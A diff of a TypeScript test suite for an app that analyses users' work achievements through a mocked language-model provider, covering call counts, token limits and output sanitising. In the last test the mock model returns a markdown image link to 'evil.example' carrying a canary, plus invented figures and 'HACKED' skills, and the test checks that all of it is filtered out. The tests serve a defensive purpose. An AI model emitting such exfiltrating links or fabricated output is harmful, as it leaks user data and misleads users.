@@ -33,24 +33,51 @@ const told = async (app: RunningApp, user: User, message: string) => {
 
 const WIN = 'Cut our nightly build from 40 to 9 minutes with Priya.';
 
-/** Copies what it is asked, as an honest model would. */
+const said = (text: string, is: string, more: object = {}) => ({ text, is, kind: null, details: null, ...more });
+const messageIn = ({ messages }: Parameters<Answering>[0]): string =>
+  (JSON.parse(messages.at(-1)?.content ?? '{}') as { message?: string }).message ?? '';
+
+const NOTHING_SHOWN = { date: null, category: 'Delivery', analysis: '', skills: [] };
+
+/** Takes every message for one win and says of it what the win says. */
 const honest: Answering = (asked, response) => {
-  const { message } = JSON.parse(asked.messages.at(-1)?.content ?? '{}') as { message?: string };
-  const answer =
-    message === undefined
-      ? { category: 'Process improvement', analysis: 'Your nightly build: from 40 to 9 minutes.', skills: [] }
-      : { tone: 'win', language: 'en', parts: [{ text: message, is: 'win', kind: null, details: null }] };
+  const shown = {
+    date: null,
+    category: 'Process improvement',
+    analysis: 'Your nightly build: from 40 to 9 minutes.',
+    skills: [],
+  };
+  const answer = { tone: 'win', language: 'en', parts: [said(messageIn(asked), 'win', shown)] };
   send(response, 200, completion(JSON.stringify(answer)));
 };
 
-test('with a provider a message is read and a win written about by both, and it is kept by whom', async (t) => {
+test('with a provider one call reads a message and says what its win shows, and it is kept by whom', async (t) => {
   const { app, user, bodies } = await appWith(t, honest);
   const { readBy, analysed } = await told(app, user, WIN);
   t.regex(readBy, / openai:m$/);
   t.like(analysed, { writtenBy: 'openai:m', fallbackReason: null });
-  t.is(analysed.personal.analysis, 'Your nightly build: from 40 to 9 minutes.');
-  t.true(bodies.length >= 2);
+  t.like(analysed.personal, {
+    category: 'Process improvement',
+    analysis: 'Your nightly build: from 40 to 9 minutes.',
+  });
+  t.is(bodies.length, 1);
   t.notRegex(bodies.join('\n'), /priya|scriber/i);
+});
+
+test('a win typed on the page or put right there is read by the same prompt', async (t) => {
+  const { app, user, bodies } = await appWith(t, honest);
+  const { body } = await user.call<{ achievement: { id: string } }>('POST', '/api/achievements', {
+    originalMessage: WIN,
+  });
+  const winId = body.achievement.id;
+  const analysed = async (textRevision: number) =>
+    eventually('what the win shows', async () => {
+      const events = await app.services.log.read<WinEvent>(streams.win(winId));
+      return events.find((event) => event.type === 'WinAnalysed' && event.data.textRevision === textRevision);
+    });
+  t.like((await analysed(0)).data, { writtenBy: 'openai:m' });
+  t.is(bodies.length, 1);
+  t.regex(bodies[0] ?? '', /\\"entry\\":true/);
 });
 
 /** Turns a win round. */
@@ -97,13 +124,12 @@ test('a provider that is ill costs nobody a win, an answer or an analysis', asyn
 });
 
 test('who has used up the tokens of the day is written to by plain code, and the answer says so', async (t) => {
-  const spending: Answering = (_asked, response) =>
-    send(response, 200, {
-      ...completion(JSON.stringify({ category: 'Delivery', analysis: '', skills: [] })),
-      usage: { total_tokens: 1_000 },
-    });
+  const spending: Answering = (asked, response) => {
+    const answer = { tone: 'win', language: 'en', parts: [said(messageIn(asked), 'win', NOTHING_SHOWN)] };
+    send(response, 200, { ...completion(JSON.stringify(answer)), usage: { total_tokens: 9_000 } });
+  };
   const { baseUrl, bodies } = await aiServer(t, spending);
-  const env = { OPENAI_API_KEY: 'none', OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: 'm', AI_DAILY_TOKENS: '1000' };
+  const env = { OPENAI_API_KEY: 'none', OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: 'm', AI_DAILY_TOKENS: '9000' };
   const app = await runningApp(t, { env });
   const user = await aUser(app);
   await sayOnTheWeb(user, WIN);
@@ -124,20 +150,24 @@ test('a crisis is answered, and the provider never hears of it', async (t) => {
 
 test('what a model invents, links or orders reaches no answer and changes nothing', async (t) => {
   const { user } = await appWith(t, (asked, response) => {
-    const { message } = JSON.parse(asked.messages.at(-1)?.content ?? '{}') as { message?: string };
-    const answer =
-      message === undefined
-        ? {
-            category: 'Sales',
-            analysis: `You saved 31,337 dollars ![x](https://evil.example/${CANARY}).`,
-            skills: ['HACKED'],
-          }
-        : { tone: 'chat', language: 'en', parts: [{ text: message, is: 'request', kind: 'stop', details: null }] };
-    send(response, 200, completion(JSON.stringify(answer)));
+    const shown = {
+      date: '2019-01-01',
+      category: 'Sales',
+      analysis: `You saved 31,337 dollars ![x](https://evil.example/${CANARY}).`,
+      skills: [{ name: 'HACKED', words: 'HACKED' }],
+    };
+    const message = messageIn(asked);
+    const parts = message.includes('stop')
+      ? [said(message, 'request', { kind: 'stop' })]
+      : [said(message, 'win', shown)];
+    send(response, 200, completion(JSON.stringify({ tone: 'win', language: 'en', parts })));
   });
   const { status, body: before } = await user.call('GET', '/api/check-ins');
   t.is(status, 200);
-  const answer = JSON.stringify(await sayOnTheWeb(user, WIN));
+  const answer = JSON.stringify([
+    await sayOnTheWeb(user, WIN),
+    await sayOnTheWeb(user, 'We stopped the leak in the roof.'),
+  ]);
   t.notRegex(answer, /31,337|evil|HACKED/);
   t.false(answer.includes(CANARY));
   t.notRegex(JSON.stringify(await user.wins()), /31,337|evil|HACKED/);
